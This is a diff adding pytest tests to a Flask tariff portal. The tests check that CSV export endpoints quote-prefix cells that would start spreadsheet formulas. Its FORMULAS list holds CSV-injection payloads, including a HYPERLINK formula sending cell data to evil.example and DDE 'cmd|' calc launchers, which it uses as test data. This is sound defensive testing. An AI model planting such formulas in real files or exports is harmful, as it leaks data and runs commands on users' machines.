@@ -107,3 +107,82 @@ def test_unknown_tariff_is_a_json_404(client):
 
 def test_api_refuses_writes(client):
     assert client.post("/api/v1/tariffs").status_code == 405
+
+
+# CSV cells never start a formula ------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|'",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+CSV_URLS = ["/api/v1/tariffs.csv?on=2025-01-01", "/api/v1/tariffs/EVIL.csv", "/api/v1/fees.csv"]
+
+
+@pytest.fixture
+def formulas(app, make_tariff):
+    """A tariff and a fee item whose every text field starts a spreadsheet formula."""
+    from datetime import date
+
+    import sqlalchemy as sa
+
+    from portal.core.models import utcnow
+    from portal.extensions import db
+    from portal.fees import services
+    from portal.fees.models import FeeItem, Tariff, TariffVersion
+
+    make_tariff("EVIL", start=date(2024, 1, 1))
+    with app.app_context():
+        services.save_fee_item(services.FeeItemData(
+            "EVIL-FEE", "x", None, None, None, None, None, None, services.LegalBasis("n", "t")),
+            utcnow())
+        # Straight into the tables, as an old row or a manual fix could be.
+        db.session.execute(sa.update(Tariff).where(Tariff.code == "EVIL").values(
+            name_zh=FORMULAS[0], name_en=FORMULAS[1]))
+        db.session.execute(sa.update(TariffVersion).values(
+            basis_number=FORMULAS[2], basis_title=FORMULAS[3]))
+        db.session.execute(sa.update(FeeItem).where(FeeItem.code == "EVIL-FEE").values(
+            name_zh=FORMULAS[0], name_en=FORMULAS[1], unit_zh=FORMULAS[2], unit_en=FORMULAS[3],
+            conditions_zh=FORMULAS[4], conditions_en=FORMULAS[5], basis_number=FORMULAS[2],
+            basis_title=FORMULAS[3], refund_rule_zh=FORMULAS[4], refund_rule_en=FORMULAS[5]))
+        db.session.commit()
+
+
+def _csv_rows(response):
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"),
+                                       newline="")))
+
+
+def test_every_csv_address_is_tested(app):
+    served = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
+    assert served == {"/api/v1/tariffs.csv", "/api/v1/tariffs/<code>.csv", "/api/v1/fees.csv"}
+    assert len(CSV_URLS) == len(served)
+
+
+@pytest.mark.usefixtures("formulas")
+@pytest.mark.parametrize("url", CSV_URLS)
+def test_csv_cells_never_start_a_formula(client, url):
+    rows = _csv_rows(client.get(url))
+    cells = [cell for row in rows for cell in row]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []
+    evil = [cell for cell in cells if cell.startswith("'")]
+    assert set(evil) <= {"'" + formula for formula in FORMULAS} and len(evil) >= 4
+    assert "'" + FORMULAS[0] in evil  # the text itself is kept, after the quote
+
+
+@pytest.mark.usefixtures("formulas")
+def test_csv_numbers_stay_numbers(client):
+    rows = list(csv.DictReader(io.StringIO(
+        client.get("/api/v1/tariffs/EVIL.csv").get_data(as_text=True).lstrip("\ufeff"))))
+    assert [(r["version"], r["tier"], r["tier_upper_kwh"], r["price_yuan_per_kwh"])
+            for r in rows] == [("1", "1", "2760.0000", "0.5380"), ("1", "2", "4800.0000", "0.5880"),
+                               ("1", "3", "", "0.8380")]
+
+
+def test_csv_cell_quotes_text_and_leaves_numbers():
+    from decimal import Decimal
+
+    from portal.api.views import csv_cell
+
+    assert csv_cell("-1") == "'-1" and csv_cell("=1") == "'=1" and csv_cell("@a") == "'@a"
+    assert csv_cell("0.5380") == "0.5380" and csv_cell("'=1") == "'=1" and csv_cell("") == ""
+    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5") and csv_cell(-3) == -3
+    assert csv_cell(None) is None
